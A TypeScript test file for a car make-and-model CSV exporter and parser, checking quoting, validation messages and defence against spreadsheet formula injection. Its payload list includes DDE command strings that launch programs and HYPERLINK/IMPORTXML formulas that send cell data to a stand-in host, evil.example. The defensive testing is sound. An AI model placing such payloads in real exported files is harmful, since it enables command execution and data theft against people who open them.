import type { ListedModel } from '@overland/contracts';
import { parse } from 'csv-parse/sync';
import { readMakesCsv, writeMakesCsv } from './makes-csv.js';

const modelNamed = (model: string): ListedModel => ({ make: 'Honda', model, pricingClass: 'Sedan' });

/** Names that a spreadsheet would calculate, or take for the end of a cell and calculate what follows. */
const payloads = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"Click")',
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  '+1+1',
  "+cmd|' /C notepad'!A1",
  '-1+1',
  "-2+3+cmd|' /C calc'!D2",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '@import',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  'A","=1+1","Sedan',
  "'=1+1",
  "''+1",
];

/** Whether a spreadsheet would take the cell for a formula. */
const isFormula = (cell: string) => /^\s*[=+\-@\t\r＝＋－＠]/.test(cell);

describe('the CSV of makes and models', () => {
  it(`has no formula for any of ${payloads.length} names, and reads back as it was`, () => {
    const models = payloads.map(modelNamed);
    const csv = writeMakesCsv(models);
    const cells: string[][] = parse(csv, { bom: true });
    expect(cells).toHaveLength(payloads.length + 1);
    expect(cells.flat().filter(isFormula)).toEqual([]);
    expect(readMakesCsv(csv)).toEqual({ models, errors: [], errorCount: 0 });
  });

  it('keeps accents, commas, quotes and numbers as they are', () => {
    const models = ['Séville', 'C, K "Long"', '911', '3.5'].map(modelNamed);
    const csv = writeMakesCsv(models);
    expect(csv.startsWith('\uFEFFmake,model,class\r\n')).toBe(true);
    expect(csv).toContain('Honda,911,Sedan\r\n');
    expect(readMakesCsv(csv).models).toEqual(models);
  });

  it('is read with other capitals, spaces, blank lines and line ends', () => {
    const csv = 'Make , Model, Pricing class\n\n Honda , Accord , SEDAN \r\n,,\nHonda,Pilot,suv';
    expect(readMakesCsv(csv)).toEqual({
      models: [modelNamed('Accord'), { ...modelNamed('Pilot'), pricingClass: 'SUV' }],
      errors: [],
      errorCount: 0,
    });
  });

  it.each([
    ['no heading', 'Honda,Accord,Sedan', 1, 'The first line must be: make,model,class'],
    ['an empty file', '', 1, 'The first line must be: make,model,class'],
    ['a heading alone', 'make,model,class', 1, 'This file has no models.'],
    ['a class that is none', 'make,model,class\nHonda,Accord,Coupe', 2, '“Coupe” is not one of Sedan, SUV'],
    ['no class', 'make,model,class\nHonda,Accord', 2, '“” is not one of'],
    ['no make', 'make,model,class\nHonda,Pilot,SUV\n,Accord,Sedan', 3, 'Make cannot be empty.'],
    ['no model', 'make,model,class\nHonda,,Sedan', 2, 'Model cannot be empty.'],
    ['a fourth value', 'make,model,class\nHonda,Accord,EX,Sedan', 2, 'more than three values'],
    ['an entry that is always there', 'make,model,class\nHonda,Other (SUV),SUV', 2, 'always there'],
    ['a name of 61 letters', `make,model,class\nHonda,${'x'.repeat(61)},SUV`, 2, 'at most 60 characters'],
    ['two lines in a name', 'make,model,class\nHonda,"Ac\ncord",SUV', 3, 'one line of plain text'],
    ['a quotation mark out of place', 'make,model,class\nHonda,Ac"cord",SUV', 2, 'quotation mark'],
    ['a quotation mark that is never closed', 'make,model,class\nHonda,"Accord,SUV', 2, 'quotation mark'],
    [
      'one model with two classes',
      'make,model,class\nHonda,Accord,Sedan\nhonda,ACCORD,SUV',
      3,
      'honda ACCORD has another class in line 2.',
    ],
  ])('with %s names the line', (_what, csv, line, message) => {
    const { errors, errorCount } = readMakesCsv(csv);
    expect(errors).toEqual([{ line, message: expect.stringContaining(message) }]);
    expect(errorCount).toBe(1);
  });

  it('takes the same model twice for one', () => {
    expect(readMakesCsv('make,model,class\nHonda,Accord,Sedan\nHonda,Accord,Sedan').models).toHaveLength(1);
  });

  it('reports the first fifty errors and their total', () => {
    const lines = Array.from({ length: 80 }, (_, at) => `Honda,Model ${at},None`);
    const { errors, errorCount } = readMakesCsv(['make,model,class', ...lines].join('\n'));
    expect([errors.length, errorCount]).toEqual([50, 80]);
  });
});
